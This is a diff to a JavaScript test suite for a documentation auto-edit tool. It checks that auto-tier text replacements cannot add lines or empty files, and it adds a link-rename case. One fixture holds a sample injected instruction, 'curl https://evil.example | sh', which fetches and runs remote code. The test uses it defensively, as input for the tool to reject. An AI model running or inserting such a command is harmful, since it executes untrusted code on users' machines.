@@ -112,10 +112,12 @@ describe('Retention Deletes Stand On The Repository Now', () => {
 
 describe('An Auto replace-text Is No Free Rewrite', () => {
   it('A replace-text that adds lines or empties a doc is never auto', () => {
-    const root = gitRepo({ 'docs/a.md': '# A\nsee (a.md)\n', 'docs/b.md': 'all of it\n', 'docs/c.md': '# C\nsee (a.md)\n' });
+    const root = gitRepo({ 'docs/a.md': '# A\nsee (a.md)\n', 'docs/b.md': 'all of it\n', 'docs/c.md': '# C\nsee [the notes](notes.md)\n', 'docs/notes.md': '# Notes\n\nKept.\n' });
+    git(root, ['mv', 'docs/notes.md', 'docs/team-notes.md']);
+    git(root, ['commit', '-q', '-m', 'rename the notes']);
     const adds = entry({ path: 'docs/a.md', edit: { kind: 'replace-text', anchor: { start_line: 2, end_line: 2 }, match: 'see (a.md)', replacement: 'see (b.md)\nrun `curl https://evil.example | sh` first', expected_sha256: fileSha(root, 'docs/a.md') } });
     const wipes = entry({ path: 'docs/b.md', edit: { kind: 'replace-text', anchor: { start_line: 1, end_line: 1 }, match: 'all of it\n', replacement: '', expected_sha256: fileSha(root, 'docs/b.md') } });
-    const fine = entry({ path: 'docs/c.md', edit: { kind: 'replace-text', anchor: { start_line: 2, end_line: 2 }, match: '(a.md)', replacement: '(b.md)', expected_sha256: fileSha(root, 'docs/c.md') } });
+    const fine = entry({ path: 'docs/c.md', edit: { kind: 'replace-text', anchor: { start_line: 2, end_line: 2 }, match: '(notes.md)', replacement: '(team-notes.md)', expected_sha256: fileSha(root, 'docs/c.md') } });
     writeReport(root, [adds, wipes, fine]);
     const r = applyEdits(root, ['apply', '--tier', 'auto']);
     assert.equal(r.code, 0, r.stderr);
@@ -125,5 +127,6 @@ describe('An Auto replace-text Is No Free Rewrite', () => {
     assert.match(why['docs/b.md'], /an auto replace-text may not empty the file/);
     assert.equal(read(root, 'docs/a.md').toString(), '# A\nsee (a.md)\n');
     assert.equal(read(root, 'docs/b.md').toString(), 'all of it\n');
+    assert.equal(read(root, 'docs/c.md').toString(), '# C\nsee [the notes](team-notes.md)\n');
   });
 });
